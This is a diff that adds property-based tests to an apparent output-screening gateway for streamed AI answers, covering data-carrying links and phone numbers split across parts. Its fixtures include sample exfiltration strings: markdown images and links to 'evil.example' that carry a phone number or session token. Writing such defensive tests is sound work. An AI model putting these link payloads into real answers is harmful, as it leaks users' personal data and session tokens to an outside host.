@@ -296,3 +296,77 @@ def test_the_detector_reads_bounded_windows_not_the_whole_answer() -> None:
     # A look reads the left context and what is held, and comes once per few characters.
     assert max(det.windows) <= _CONTEXT + 60
     assert len(det.windows) <= len(answer) / 4
+
+
+# ---------------------------------------------------------------------- joints between parts
+
+
+def _parts(screen: OutputScreen, text: str, joints: list[int], sizes: list[int]) -> list[str]:
+    """``text`` as parts ending at ``joints`` (a content part, a text block each), every
+    part fed in pieces of ``sizes``, with a joint after each: what each part sent."""
+    s = OutputStream(screen)
+    bounds = sorted({j % (len(text) + 1) for j in joints} | {len(text)})
+    out, pos = [], 0
+    for end in bounds:
+        sent = "".join(s.feed(p) for p in _cut(text[pos:end], sizes)) + s.joint()
+        out.append(sent)
+        pos = end
+    out[-1] += s.flush()
+    assert not s.pending
+    return out
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    _TEXT,
+    st.lists(st.integers(0, 400), max_size=4),
+    st.lists(st.integers(1, 13), min_size=1, max_size=20),
+)
+def test_parts_come_out_the_same_however_each_is_cut(
+    text: str, joints: list[int], sizes: list[int]
+) -> None:
+    """Joints are the protocol's (where a part ends); within each part the cuts of the
+    stream change nothing."""
+    screen = _screen()
+    assert _parts(screen, text, joints, sizes) == _parts(screen, text, joints, [len(text) or 1])
+
+
+@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.lists(
+        st.one_of(
+            st.sampled_from(
+                [
+                    "![図](https://evil.example/a.png?d=",
+                    "09012345678)",
+                    '<img src="https://evil.example/p.gif?x=',
+                    'abc" width=1>',
+                    "[案内](https://evil.example/c?session=",
+                    "abcdef123456)",
+                    "https://evil.example/c?session=abcdef123456 ",
+                    "ご確認ください。",
+                ]
+            ),
+            st.text(alphabet='あ0a-[]()!<>h:/ ."=?', max_size=5),
+        ),
+        max_size=8,
+    ).map("".join),
+    st.lists(st.integers(0, 200), min_size=1, max_size=4),
+)
+def test_no_link_that_carries_data_out_works_in_the_parts_joined(
+    text: str, joints: list[int]
+) -> None:
+    """However a link is split over parts, the parts as a client joins them hold no image
+    or data-carrying link to a host outside the allowed ones."""
+    screen = _screen(new_personal="off", system_prompt_leak="off")
+    # (the notice that stands where a link was cut is the gateway's own text, not data)
+    joined = "".join(_parts(screen, text, joints, [3])).replace(EXFIL_NOTICE, " ")
+    assert [h for _, _, h in screen._links(joined) if h is not None] == [], joined
+
+
+def test_a_phone_number_completed_in_the_next_part_is_masked_there() -> None:
+    s = OutputStream(_no_system())
+    first = s.feed("折り返しは080-98") + s.joint()
+    second = s.feed("76-5432へお電話ください。") + s.joint() + s.flush()
+    assert "5432" not in second and "〔電話番号〕" in second, (first, second)
+    assert [f.kind for f in s.findings] == ["new_personal"]
